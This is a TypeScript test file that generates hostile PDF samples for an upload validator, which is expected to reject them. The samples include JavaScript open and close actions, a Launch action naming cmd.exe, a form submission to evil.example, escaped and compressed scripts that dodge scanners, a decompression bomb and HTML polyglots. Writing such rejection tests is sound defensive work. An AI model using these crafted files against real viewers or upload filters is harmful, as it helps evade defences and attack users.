import { deflateSync } from "node:zlib";
import { writePdf } from "../test-uploads.ts";
import { emptyZip, type HostileFile, join, marker, script } from "./hostile-file.ts";

const action = `<< /S /JavaScript /JS (app.alert\\("${marker}"\\)) >>`;
const stream = (dictionary: string, data: Uint8Array) =>
  `<< ${dictionary} /Length ${data.byteLength} >>\nstream\n${Buffer.from(data).toString("latin1")}\nendstream`;
const hidden = Buffer.from(`10 0 ${action}`);
const objectStream = (more: string, data: Uint8Array) =>
  writePdf({ objects: [stream(`/Type /ObjStm /N 1 /First 5 ${more}`, data)] });

/** PDF files that run, open, embed or hide something, or are broken. */
export function hostilePdfs(): HostileFile[] {
  const whole = writePdf();
  const cases: [title: string, bytes: Uint8Array, status: HostileFile["status"]][] = [
    ["script on opening", writePdf({ catalog: `/OpenAction ${action}` }), 400],
    ["action on opening", writePdf({ catalog: "/OpenAction [3 0 R /Fit]" }), 400],
    ["script by name", writePdf({ catalog: `/Names << /JavaScript << /Names [(a) ${action}] >> >>` }), 400],
    ["script on closing", writePdf({ catalog: `/AA << /WC ${action} >>` }), 400],
    [
      "script in escaped letters",
      writePdf({ catalog: "/AA << /WC << /S /J#61vaScr#69pt /JS (1) >> >>" }),
      400,
    ],
    ["script in an object of its own", writePdf({ objects: [action] }), 400],
    ["start of a program", writePdf({ objects: ["<< /S /Launch /F (cmd.exe) >>"] }), 400],
    ["embedded file", writePdf({ objects: [stream("/Type /EmbeddedFile", Buffer.from(marker))] }), 400],
    ["list of embedded files", writePdf({ catalog: "/Names << /EmbeddedFiles << /Names [] >> >>" }), 400],
    ["form that is sent", writePdf({ objects: ["<< /S /SubmitForm /F (https://evil.example) >>"] }), 400],
    ["data that is fetched", writePdf({ objects: ["<< /S /ImportData /F (a.fdf) >>"] }), 400],
    ["jump into an embedded file", writePdf({ objects: ["<< /S /GoToE /T << >> >>"] }), 400],
    ["rich media", writePdf({ objects: ["<< /Subtype /RichMedia >>"] }), 400],
    ["XFA form", writePdf({ catalog: "/AcroForm << /XFA [] >>" }), 400],
    ["script in a compressed object", objectStream("/Filter /FlateDecode", deflateSync(hidden)), 400],
    [
      "script in a compressed object, listed filter",
      objectStream("/Filter [ /FlateDecode ]", deflateSync(hidden)),
      400,
    ],
    [
      "script compressed twice",
      objectStream("/Filter [/FlateDecode /FlateDecode]", deflateSync(deflateSync(hidden))),
      400,
    ],
    [
      "script in hexadecimal",
      objectStream("/Filter /ASCIIHexDecode", Buffer.from(`${hidden.toString("hex")}>`)),
      400,
    ],
    [
      "script behind a predictor",
      objectStream("/Filter /FlateDecode /DecodeParms << /Predictor 12 >>", deflateSync(hidden)),
      400,
    ],
    [
      "object stream with an escaped name",
      writePdf({ objects: [stream("/Type /Obj#53tm /Filter /LZWDecode", hidden)] }),
      400,
    ],
    [
      "script in a stream that claims to be a picture",
      writePdf({ objects: [stream("/Subtype /Image /Filter /FlateDecode", deflateSync(hidden))] }),
      400,
    ],
    ["locked", Buffer.from(whole.toString("latin1").replace("/Root", "/Encrypt 9 0 R /Root"), "latin1"), 400],
    [
      "a stream that explodes",
      writePdf({
        objects: [stream("/Filter /FlateDecode", deflateSync(Buffer.alloc(320 * 1024 * 1024), { level: 1 }))],
      }),
      413,
    ],
    ["no end", whole.subarray(0, -7), 400],
    ["cut in the middle", whole.subarray(0, whole.byteLength / 2), 400],
    ["ZIP after the end", writePdf({ tail: emptyZip().toString("latin1") }), 400],
    ["HTML after the end", writePdf({ tail: `<html>${script}` }), 400],
    ["a second PDF after the end", join(whole, "%%", script, "\n"), 400],
    ["head alone", join("%PDF-1.7\n", "\0".repeat(20)), 400],
    ["HTML behind the head", join("%PDF-1.7\n", `<html>${script}</html>`), 400],
    ["a version that does not exist", join("%PDF-9.9\n", whole.subarray(9)), 400],
    ["larger than 5 MB", writePdf({ objects: [`(${"a".repeat(5 * 1024 * 1024)})`] }), 413],
    ["HTML in a comment", join("%PDF-1.7\n%", script, "\n", whole.subarray(9)), 201],
    ["plain", whole, 201],
  ];
  return cases.map(([title, bytes, status]) => ({
    title: `PDF: ${title}`,
    bytes,
    status,
    name: "deed.pdf.html",
    type: "text/html",
  }));
}
